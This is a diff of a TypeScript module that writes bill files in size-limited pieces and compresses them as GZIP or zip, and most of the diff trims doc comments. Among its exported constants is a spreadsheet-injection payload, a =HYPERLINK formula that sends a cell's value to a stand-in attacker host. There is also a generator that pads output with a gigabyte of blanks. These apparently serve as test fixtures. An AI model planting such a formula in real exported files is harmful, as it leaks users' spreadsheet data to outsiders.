@@ -1,7 +1,4 @@
-/**
- * Functions that write bill files: they format cells, split the text into pieces of limited size to save memory, and
- * compress a file with GZIP or as a zip.
- */
+/** Writes bill files in pieces of limited size, to save memory, and compresses them with GZIP or as a zip. */
 import iconv from 'iconv-lite';
 import { Readable, type Transform } from 'node:stream';
 import { pipeline } from 'node:stream/promises';
@@ -47,7 +44,6 @@ export function hundredths(minor: number): string {
 /** A text that no bill reader accepts as an amount. */
 export const UNREADABLE = '--';
 
-/** A text that a spreadsheet would read as a formula. */
 export const FORMULA = `=HYPERLINK("http://attacker.example/"&A1;"open")`;
 
 const BLANKS = Buffer.alloc(1024 * 1024, ' ');
@@ -67,10 +63,7 @@ export async function* withGigabyte(pieces: AsyncIterable<Buffer>): AsyncIterabl
   for (let count = 0; count < 1024; count += 1) yield BLANKS;
 }
 
-/**
- * A file inside a zip. `name` contains the encoded bytes of its name. The zip does not declare their charset (flag bit
- * 11 is not set).
- */
+/** The zip does not declare the charset of the encoded `name` (flag bit 11 is not set). */
 export interface ZipEntry {
   name: Buffer;
   content: AsyncIterable<Buffer>;
@@ -108,7 +101,6 @@ export async function* zipOf(entries: readonly ZipEntry[], at: number): AsyncGen
   yield end(entries.length, central.length, offset);
 }
 
-/** Compresses the content of a zip entry. Adds each piece to the checksum, size and compressed size in `sums`. */
 async function* deflated(content: AsyncIterable<Buffer>, sums: Sums): AsyncIterable<Buffer> {
   const counted = async function* () {
     for await (const piece of content) {
@@ -169,10 +161,7 @@ function end(count: number, size: number, offset: number): Buffer {
   return bytes;
 }
 
-/**
- * Encodes the date and time in Beijing as a 32-bit MS-DOS value. The time is in the low half, because the headers of a
- * zip store the time first.
- */
+/** Encodes a Beijing time as MS-DOS value; the time is the low half, because zip headers store it first. */
 function dosTime(at: number): number {
   const day = new Date(at + 8 * 3_600_000);
   const time = (day.getUTCHours() << 11) | (day.getUTCMinutes() << 5) | (day.getUTCSeconds() >> 1);
